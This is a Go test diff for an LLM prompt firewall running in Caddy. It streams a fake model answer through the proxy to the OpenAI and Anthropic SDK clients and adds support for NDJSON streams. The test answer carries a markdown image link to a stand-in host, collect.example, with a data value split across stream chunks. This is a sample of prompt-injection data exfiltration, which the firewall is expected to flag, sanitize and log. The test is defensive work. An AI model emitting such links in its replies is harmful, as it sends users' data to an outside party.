@@ -55,6 +55,7 @@ type scriptLLM struct {
 
 	mu          sync.Mutex
 	first, rest []string
+	ctype       string // the stream's Content-Type ("": text/event-stream)
 	json        string // when set, the answer is this JSON body
 	requests    int
 	acked       []bool
@@ -72,11 +73,19 @@ func newScriptLLM(t *testing.T) *scriptLLM {
 func (u *scriptLLM) script(first, rest []string) {
 	u.mu.Lock()
 	defer u.mu.Unlock()
-	u.first, u.rest, u.json, u.requests, u.acked = first, rest, "", 0, nil
+	u.first, u.rest, u.ctype, u.json, u.requests, u.acked = first, rest, "", "", 0, nil
 	select {
 	case <-u.ack:
 	default:
 	}
+}
+
+// scriptAs is script for a stream of another Content-Type (Ollama's NDJSON).
+func (u *scriptLLM) scriptAs(ctype string, first, rest []string) {
+	u.script(first, rest)
+	u.mu.Lock()
+	defer u.mu.Unlock()
+	u.ctype = ctype
 }
 
 // scriptJSON sets the next answer to one JSON body.
@@ -104,13 +113,16 @@ func (u *scriptLLM) serve(w http.ResponseWriter, r *http.Request) {
 	io.Copy(io.Discard, r.Body)
 	u.mu.Lock()
 	u.requests++
-	first, rest, body := u.first, u.rest, u.json
+	first, rest, body, ctype := u.first, u.rest, u.json, u.ctype
 	u.mu.Unlock()
 	if body != "" {
 		writeJSON(w, body)
 		return
 	}
-	w.Header().Set("Content-Type", "text/event-stream")
+	if ctype == "" {
+		ctype = "text/event-stream"
+	}
+	w.Header().Set("Content-Type", ctype)
 	w.Header().Set("Cache-Control", "no-cache")
 	w.WriteHeader(200)
 	send := func(evs []string) {
@@ -227,10 +239,24 @@ func (r respSDKResult) text() string {
 	return b.String()
 }
 
-// TestResponseFirewallSDKE2E streams model answers from a fake upstream
-// through a real caddy (prompt_firewall with response actions, then
-// reverse_proxy) to the official openai and @anthropic-ai/sdk clients.
-func TestResponseFirewallSDKE2E(t *testing.T) {
+// respLinkAnswer is the answer with the exfiltration link split inside its
+// scheme, its host, its parameter and its value, the whole answer, and the
+// engine's sanitized copy of it.
+func respLinkAnswer(t *testing.T) (deltas []string, answer, sanitized string) {
+	deltas = []string{"Here is your chart: ![chart](htt", "ps://collect.exa", "mple/p?d", "=" + respLinkValue[:17],
+		respLinkValue[17:33], respLinkValue[33:] + ") Enjoy", " the view."}
+	answer = strings.Join(deltas, "")
+	res := engine.Default().ScanString(answer)
+	sanitized = string(res.Sanitized)
+	if res.Verdict != engine.Suspicious || sanitized == answer || strings.Contains(sanitized, respLinkValue) {
+		t.Fatalf("the test answer is not one suspicious link: %+v", res)
+	}
+	return
+}
+
+// newRespSDK starts the caddy of the response tests with its fake upstream
+// and installs the SDKs.
+func newRespSDK(t *testing.T) *respSDK {
 	sdkDir, err := filepath.Abs("sdkclients")
 	if err != nil {
 		t.Fatal(err)
@@ -260,17 +286,16 @@ http://%[2]s {
 	reverse_proxy %[3]s
 }
 `, actAddr, logAddr, upAddr), nil, actAddr, logAddr)
-	s := &respSDK{srv: srv, up: up, act: "http://" + actAddr, logged: "http://" + logAddr, sdkDir: sdkDir}
+	return &respSDK{srv: srv, up: up, act: "http://" + actAddr, logged: "http://" + logAddr, sdkDir: sdkDir}
+}
 
-	// The link split inside its scheme, its host, its parameter and its value.
-	linkDeltas := []string{"Here is your chart: ![chart](htt", "ps://collect.exa", "mple/p?d", "=" + respLinkValue[:17],
-		respLinkValue[17:33], respLinkValue[33:] + ") Enjoy", " the view."}
-	answer := strings.Join(linkDeltas, "")
-	res := engine.Default().ScanString(answer)
-	wantSanitized := string(res.Sanitized)
-	if res.Verdict != engine.Suspicious || wantSanitized == answer || strings.Contains(wantSanitized, respLinkValue) {
-		t.Fatalf("the test answer is not one suspicious link: %+v", res)
-	}
+// TestResponseFirewallSDKE2E streams model answers from a fake upstream
+// through a real caddy (prompt_firewall with response actions, then
+// reverse_proxy) to the official openai and @anthropic-ai/sdk clients.
+func TestResponseFirewallSDKE2E(t *testing.T) {
+	s := newRespSDK(t)
+	up := s.up
+	linkDeltas, answer, wantSanitized := respLinkAnswer(t)
 
 	for _, c := range respClients {
 		// 1. The link arrives as the engine's sanitized copy of the whole answer,
@@ -435,27 +460,35 @@ http://%[2]s {
 			t.Fatalf("the SDK got %q (%+v), want the answer unchanged", r.text(), r.Error)
 		}
 		wantStreamEnded(t, c, r)
-		var entries []string
-		for _, l := range strings.Split(s.srv.Log(), "\n") {
-			if strings.Contains(l, `"phase":"response"`) {
-				entries = append(entries, l)
-			}
-		}
-		if len(entries)-before != 1 {
-			t.Fatalf("%d new response log entries, want 1:\n%s", len(entries)-before, strings.Join(entries, "\n"))
-		}
-		e := entries[len(entries)-1]
-		for _, want := range []string{`"msg":"prompt injection detected"`, `"action":"log"`, `"verdict":"suspicious"`, `"rules":["EX-3"]`} {
-			if !strings.Contains(e, want) {
-				t.Errorf("log entry lacks %s: %s", want, e)
-			}
-		}
-		for _, secret := range []string{respLinkValue, "collect.example", "chart"} {
-			if strings.Contains(s.srv.Log(), secret) {
-				t.Errorf("the log holds the answer's text %q", secret)
-			}
-		}
+		s.wantLinkLogged(t, before)
 	})
+}
+
+// wantLinkLogged checks that the caddy log has one response entry more than
+// before, for the link under log mode, which names the rule but never the
+// answer's text.
+func (s *respSDK) wantLinkLogged(t *testing.T, before int) {
+	t.Helper()
+	var entries []string
+	for _, l := range strings.Split(s.srv.Log(), "\n") {
+		if strings.Contains(l, `"phase":"response"`) {
+			entries = append(entries, l)
+		}
+	}
+	if len(entries)-before != 1 {
+		t.Fatalf("%d new response log entries, want 1:\n%s", len(entries)-before, strings.Join(entries, "\n"))
+	}
+	e := entries[len(entries)-1]
+	for _, want := range []string{`"msg":"prompt injection detected"`, `"action":"log"`, `"verdict":"suspicious"`, `"rules":["EX-3"]`} {
+		if !strings.Contains(e, want) {
+			t.Errorf("log entry lacks %s: %s", want, e)
+		}
+	}
+	for _, secret := range []string{respLinkValue, "collect.example", "chart"} {
+		if strings.Contains(s.srv.Log(), secret) {
+			t.Errorf("the log holds the answer's text %q", secret)
+		}
+	}
 }
 
 // wantStreamEnded checks that the stream's closing events reached the SDK.
